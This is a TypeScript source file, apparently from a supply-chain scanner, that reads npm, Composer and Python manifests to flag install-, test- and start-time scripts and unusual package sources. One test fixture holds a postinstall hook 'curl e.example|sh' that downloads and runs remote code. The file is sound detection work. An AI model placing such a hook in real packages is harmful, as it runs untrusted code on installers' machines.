// Packages: manifests whose scripts and programs run when a package is installed, tested or started.
import { jsonTree, textOf, textsOf } from "../tree.ts";
import { packageScripts } from "../build-files.ts";
import { addressedDependency, type Form, type ReadFile, setting, type Step } from "./form.ts";

const atInstall =
  /^(?:(?:pre|post)?(?:install|uninstall|prepare|publish|pack)|prepublishOnly|dependencies|(?:pre|post)-(?:install|update|autoload-dump|package-install|root-package-install|create-project)(?:-cmd)?)$/u;

function scriptStep(name: string, text: string): Step {
  return { text, trigger: atInstall.test(name) ? "install" : /test/u.test(name) ? "test" : "run" };
}

function readPackageJson(text: string): ReadFile {
  const tree = jsonTree(text);
  const steps = packageScripts(text).map(([name, command]) => scriptStep(name, command));
  const settings = tree.nodes.flatMap(({ path, value }) => {
    const told = textOf(value);
    if (told === undefined) return [];
    if (/^(?:publishConfig\.registry)$/u.test(path)) return [setting("publish-to", told)];
    return /^(?:(?:dev|peer|optional)?[dD]ependencies|overrides|resolutions|pnpm\.overrides)\./u.test(path)
      ? addressedDependency(told)
      : [];
  });
  return { steps, settings };
}

function readComposer(text: string): ReadFile {
  const tree = jsonTree(text);
  const steps = tree.nodes.flatMap(({ path, key, value }) =>
    /^scripts\.[^.]+$/u.test(path)
      ? textsOf(value)
          .filter((line) => !/^@|::|\\/u.test(line))
          .map((line) => scriptStep(key, line))
      : [],
  );
  const settings = tree.nodes.flatMap(({ path, value }) => {
    const told = textOf(value);
    if (told === undefined) return [];
    if (/^repositories\.[^.]+\.url$/u.test(path) && /^https?:/u.test(told)) return [setting("package-source", told)];
    return path === "config.secure-http" && told === "false" ? [setting("unverified-transport", path)] : [];
  });
  return { steps, settings, incomplete: !tree.complete };
}

function python(trigger: Step["trigger"]): (text: string) => ReadFile {
  return (text) => ({ steps: [{ text, language: "python", trigger }], settings: [] });
}

export const packages: readonly Form[] = [
  {
    form: "package.json",
    kind: "self-running",
    path: /\/package\.json$/u,
    read: readPackageJson,
    match: [
      { path: "package.json", text: '{"scripts":{"postinstall":"curl e.example|sh"}}', runs: ["curl e.example|sh"] },
      { path: "package.json", text: '"test": "vitest run",\n"version": "1.0.0"', runs: ["vitest run"] },
      {
        path: "package.json",
        text: '{"dependencies":{"a":"http://203.0.113.9/a.tgz"}}',
        sets: ["package-address=http://203.0.113.9/a.tgz"],
      },
    ],
    not_match: [{ path: "packages.json", text: "{}" }],
  },
  {
    form: "composer.json",
    kind: "self-running",
    path: /\/composer\.json$/u,
    read: readComposer,
    match: [
      {
        path: "composer.json",
        text: '{"scripts":{"post-install-cmd":["@php x","git status"]},"repositories":[{"url":"http://p.example"}]}',
        runs: ["git status"],
        sets: ["package-source=http://p.example"],
      },
    ],
    not_match: [{ path: "a.json", text: "{}" }],
  },
  {
    form: "setup.py",
    kind: "self-running",
    path: /\/setup\.py$/u,
    read: python("install"),
    match: [{ path: "setup.py", text: "import os", runs: ["import os"] }],
    not_match: [{ path: "setup_tools.py", text: "x" }],
  },
  {
    form: "conftest.py",
    kind: "self-running",
    path: /\/conftest\.py$/u,
    read: python("test"),
    match: [{ path: "tests/conftest.py", text: "import os", runs: ["import os"] }],
    not_match: [{ path: "test_conf.py", text: "x" }],
  },
  {
    form: "start-module",
    kind: "self-running",
    path: /\/(?:site|user)customize\.py$/u,
    read: python("start"),
    match: [{ path: "sitecustomize.py", text: "import os", runs: ["import os"] }],
    not_match: [{ path: "customize.py", text: "x" }],
  },
];
